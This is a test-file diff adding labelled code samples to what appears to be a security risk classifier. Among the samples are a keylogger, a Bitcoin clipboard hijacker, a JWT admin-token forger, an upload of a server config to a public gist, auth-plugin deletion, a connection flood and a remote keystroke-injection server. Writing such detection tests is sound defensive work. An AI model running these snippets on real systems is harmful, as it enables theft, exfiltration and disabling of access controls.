@@ -12150,6 +12150,115 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    con.commit()\n',
             H,
         ),
+        # holdout404-407: hotkeys, timestamps put back, acme.json, clipboard, GUI deletes, gateways, JWTs,
+        # gists, slowloris
+        (
+            'from pynput import keyboard\n'
+            'def on_key(key):\n'
+            '    if key == keyboard.Key.esc:\n'
+            '        return False\n'
+            'with keyboard.Listener(on_press=on_key) as l:\n'
+            '    l.join()\n',
+            M,
+        ),
+        (
+            'from pynput import keyboard\n'
+            'keys = []\n'
+            'def on_key(key):\n'
+            '    keys.append(str(key))\n'
+            'with keyboard.Listener(on_press=on_key) as l:\n'
+            '    l.join()\n',
+            H,
+        ),
+        (
+            'import os, openpyxl\n'
+            "p = '/srv/payroll/hours.xlsx'\n"
+            'st = os.stat(p)\n'
+            'wb = openpyxl.load_workbook(p)\n'
+            "wb['H']['D2'].value = 60\n"
+            'wb.save(p)\n'
+            'os.utime(p, (st.st_atime, st.st_mtime))\n',
+            H,
+        ),
+        (
+            'import json\n'
+            "data = json.load(open('/etc/traefik/acme.json'))\n"
+            'print(len(data))\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            "shutil.chown('/etc/nginx/.htpasswd-app', user='root', group='www-data')\n",
+            M,
+        ),
+        (
+            'import os\n'
+            "os.symlink('/etc/nginx/sites-available/app.conf', '/etc/nginx/sites-enabled/app.conf')\n",
+            M,
+        ),
+        (
+            'import re, time, pyperclip\n'
+            "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
+            'while True:\n'
+            '    if BTC.match(pyperclip.paste()):\n'
+            "        pyperclip.copy('bc1qexampleaddressxxxxxxxxxxxxxxxxxxxxxx')\n"
+            '    time.sleep(0.5)\n',
+            H,
+        ),
+        (
+            'import pyautogui\n'
+            "pyautogui.hotkey('ctrl', 'a')\n"
+            "pyautogui.hotkey('shift', 'delete')\n"
+            "pyautogui.press('enter')\n",
+            H,
+        ),
+        (
+            'import pyautogui\n'
+            "pyautogui.hotkey('ctrl', 'a')\n"
+            "pyautogui.hotkey('ctrl', 'c')\n",
+            S,
+        ),
+        (
+            'import requests\n'
+            "for p in requests.get('http://kong:8001/plugins').json()['data']:\n"
+            "    if p['name'] in ('key-auth', 'acl'):\n"
+            '        requests.delete(f"http://kong:8001/plugins/{p[\'id\']}")\n',
+            H,
+        ),
+        (
+            'import jwt, requests\n'
+            "secret = open('/etc/app/jwt.secret').read().strip()\n"
+            "t = jwt.encode({'sub': 'x', 'role': 'admin'}, secret, algorithm='HS256')\n"
+            "requests.get('https://api.example.com/admin', headers={'Authorization': f'Bearer {t}'})\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "files = {'cfg.txt': {'content': open('/etc/haproxy/haproxy.cfg').read()}}\n"
+            "requests.post('https://api.github.com/gists', json={'public': True, 'files': files})\n",
+            H,
+        ),
+        (
+            'import socket\n'
+            'conns = []\n'
+            'for _ in range(5000):\n'
+            "    conns.append(socket.create_connection(('api.example.com', 443)))\n",
+            H,
+        ),
+        (
+            'import socketserver, json, pyautogui\n'
+            'class H(socketserver.StreamRequestHandler):\n'
+            '    def handle(self):\n'
+            '        for line in self.rfile:\n'
+            "            pyautogui.write(json.loads(line)['text'])\n"
+            "socketserver.TCPServer(('0.0.0.0', 4455), H).serve_forever()\n",
+            H,
+        ),
+        (
+            'from jinja2 import Template\n'
+            "Template(open('site.j2').read()).render(key='/etc/letsencrypt/live/a/privkey.pem')\n",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
